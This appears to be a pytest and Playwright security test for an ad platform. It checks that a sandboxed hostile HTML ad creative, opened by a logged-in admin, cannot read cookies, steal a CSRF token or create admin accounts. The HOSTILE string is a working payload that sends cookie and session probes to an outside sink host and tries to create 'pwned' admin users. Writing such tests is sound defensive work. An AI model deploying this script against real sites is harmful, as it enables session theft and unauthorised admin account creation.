"""A media buyer's hostile HTML creative, opened by a logged-in admin in a real Chromium: as
the served document, framed by a partner page with the embed tag, and in the admin pages'
previews. Its script runs every time, in an opaque origin, and makes nobody an admin.

The script reports what each attempt got to a sink on another hostname (an image request,
as an exfiltrating ad would), so the test knows it ran and what the browser refused.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from playwright.sync_api import Browser, Page

from tests.auth.helpers import PASSWORD, api_key, make_user
from tests.support.server import ServerProcess

pytestmark = pytest.mark.browser

# What an attacker would try with the admin's session: read the account, its cookies and the
# page around it, take a CSRF token from /me or a page, then make an admin user by JSON and
# by a plain form post (no preflight). Each step reports; `where` names the context.
HOSTILE = """<b id="ad">Summer sale</b>
<script>
(async () => {
  const framed = window.top !== window;
  const where = (location.pathname.includes('/serve/') ? 'serve' : 'preview')
    + (framed ? '-framed' : '-top');
  const report = (step, result) => {
    new Image().src = '{{SINK}}/report?' + new URLSearchParams(
      {where: where, step: step, result: String(result).slice(0, 300)});
  };
  const attempt = async (step, action) => {
    try { report(step, await action()); } catch (e) { report(step, 'blocked:' + e.name); }
  };
  report('ran', self.origin);
  await attempt('cookie', () => document.cookie);
  await attempt('parent', () => parent.document.cookie + '|' + parent.document.title);
  await attempt('top', () => top.location.href);
  let token = '';
  await attempt('me', async () => {
    const me = await fetch('/api/v1/me', {credentials: 'include'});
    const body = await me.json();
    token = body.csrf_token || token;
    return me.status + ':' + JSON.stringify(body);
  });
  await attempt('page', async () => {
    const page = await fetch('/admin/users', {credentials: 'include'});
    const found = (await page.text()).match(/name="csrf_token" value="([^"]+)"/);
    token = found ? found[1] : token;
    return page.status + ':' + (found ? 'token' : 'none');
  });
  const user = {role: 'admin', password: 'Pwned by a creative 1!'};
  await attempt('json', async () => {
    const made = await fetch('/api/v1/users', {
      method: 'POST', credentials: 'include',
      headers: {'Content-Type': 'application/json', 'X-CSRF-Token': token},
      body: JSON.stringify({...user, username: 'pwned-json-' + where}),
    });
    return made.status;
  });
  await attempt('form', async () => {
    const made = await fetch('/admin/users', {
      method: 'POST', credentials: 'include', mode: 'no-cors',
      body: new URLSearchParams({...user, username: 'pwned-form-' + where, csrf_token: token}),
    });
    return made.type;
  });
  report('done', token ? 'had a token' : 'no token');
})();
</script>"""
WHERE = ("serve-top", "serve-framed", "preview-framed")


class Sink:
    """On sink.localtest: records the creative's reports; on partner.localtest: a partner
    page with the embed tag the API hands out."""

    def __init__(self) -> None:
        self.reports: list[dict[str, str]] = []
        self.partner_page = ""
        self._lock = threading.Lock()
        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self.port = self._httpd.server_address[1]
        self.url = f"http://sink.localtest:{self.port}"
        self._thread = threading.Thread(target=self._httpd.serve_forever, daemon=True)

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        sink = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's naming)
                url = urlsplit(self.path)
                body = b""
                if url.path == "/report":
                    query = parse_qs(url.query, keep_blank_values=True)  # document.cookie: ""
                    with sink._lock:
                        sink.reports.append({k: v[0] for k, v in query.items()})
                elif url.path == "/partner.html":
                    body = sink.partner_page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                pass

        return Handler

    def wait_done(self, where: str, timeout: float = 20) -> dict[str, str]:
        """step -> result of the run in `where`, once it has reported `done`."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            with self._lock:
                steps = {r["step"]: r["result"] for r in self.reports if r.get("where") == where}
            if "done" in steps:
                return steps
            time.sleep(0.1)
        raise AssertionError(f"the creative never finished in {where}: {self.reports}")

    def __enter__(self) -> Sink:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._httpd.shutdown()
        self._httpd.server_close()


@pytest.fixture
def sink() -> Iterator[Sink]:
    with Sink() as served:
        yield served


def _setup(server: ServerProcess, sink: Sink) -> dict[str, Any]:
    """A media buyer books a hostile HTML creative into a placement, with their own key."""
    buyer = make_user(server, "mallory", "media_buyer")
    secret = api_key(server, buyer["id"])
    with server.client(headers={"Authorization": f"Bearer {secret}"}) as http:

        def made(plural: str, body: dict[str, Any]) -> dict[str, Any]:
            response = http.post(f"/api/v1/{plural}", json=body)
            assert response.status_code == 201, response.text
            return response.json()

        adv = made("advertisers", {"name": "Summer Sale Ltd"})
        campaign = made("campaigns", {"name": "Summer sale", "advertiser_id": adv["id"]})
        made("partners", {"id": "nmg-portal", "name": "Hohhot Portal Co."})
        site = made("sites", {
            "name": "Hohhot City Portal", "partner": "nmg-portal", "domain": "partner.localtest",
            "channel": "local_portal",
        })  # fmt: skip
        creative = made("creatives", {
            "campaign_id": campaign["id"], "name": "Summer sale banner", "kind": "html",
            "html": HOSTILE.replace("{{SINK}}", sink.url), "width": 320, "height": 100,
            "landing_url": "https://shop.example.cn/summer",
        })  # fmt: skip
        placement = made("placements", {
            "site_key": site["site_key"], "name": "Top banner", "width": 320, "height": 100,
            "campaign_ids": [campaign["id"]],
        })  # fmt: skip
    deadline = time.monotonic() + 20  # the hit path picks the new catalog up
    with server.client() as http:
        while http.get(placement["serve_url"]).json().get("creative") is None:
            assert time.monotonic() < deadline, "the placement never served its creative"
            time.sleep(0.2)
    body = f"<!doctype html><title>Portal</title><h1>Portal</h1>{placement['embed']}"
    sink.partner_page = body
    return {"creative": creative, "placement": placement}


def _log_in(page: Page, server: ServerProcess, username: str) -> None:
    page.goto(f"{server.base_url}/login")
    page.fill("#username", username)
    page.fill("#password", PASSWORD)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url(f"{server.base_url}/admin")


def _usernames(server: ServerProcess) -> list[str]:
    with server.admin() as http:
        return sorted(u["username"] for u in http.get("/api/v1/users").json())


def test_an_admin_viewing_a_hostile_creative_creates_nobody(
    server: ServerProcess, sink: Sink, chromium: Browser
):
    world = _setup(server, sink)
    assert "sandbox=" in world["placement"]["embed"]
    context = chromium.new_context()
    try:
        page = context.new_page()
        _log_in(page, server, make_user(server, "ada", "admin")["username"])
        before = _usernames(server)

        # The served document, opened on its own (a link in a report, a curious admin) ...
        page.goto(f"{world['placement']['serve_url']}?format=html")
        assert page.locator("#ad").inner_text() == "Summer sale"
        runs = {"serve-top": sink.wait_done("serve-top")}
        # ... framed by a partner page with the embed tag the API hands out ...
        page.goto(f"http://partner.localtest:{sink.port}/partner.html")
        runs["serve-framed"] = sink.wait_done("serve-framed")
        # ... and the admin pages' previews: the placement's and the creative's own.
        for path in (f"placements/{world['placement']['id']}",
                     f"creatives/{world['creative']['id']}"):  # fmt: skip
            page.goto(f"{server.base_url}/admin/catalog/{path}")
            frame = page.frame_locator("iframe[sandbox]").first
            assert frame.locator("#ad").inner_text() == "Summer sale"
            assert page.locator("#ad").count() == 0  # never inline in the admin page
        runs["preview-framed"] = sink.wait_done("preview-framed")

        # The admin is still logged in: what the creative could not do was refused to it.
        assert page.goto(f"{server.base_url}/admin/users").status == 200
    finally:
        context.close()

    failures = []
    for where in WHERE:
        steps = runs[where]
        if steps["ran"] != "null":  # an opaque origin, never the tracker's
            failures.append(f"{where}: ran in origin {steps['ran']}")
        for step in ("cookie", "parent", "me", "page", "json"):
            if not steps[step].startswith("blocked:"):
                failures.append(f"{where}: {step} got {steps[step]}")
        if steps["done"] != "no token":
            failures.append(f"{where}: took a CSRF token")
    assert not failures, json.dumps(runs, indent=1)
    after = _usernames(server)
    assert after == before, [u for u in after if u not in before]
    assert not [u for u in after if u.startswith("pwned")]
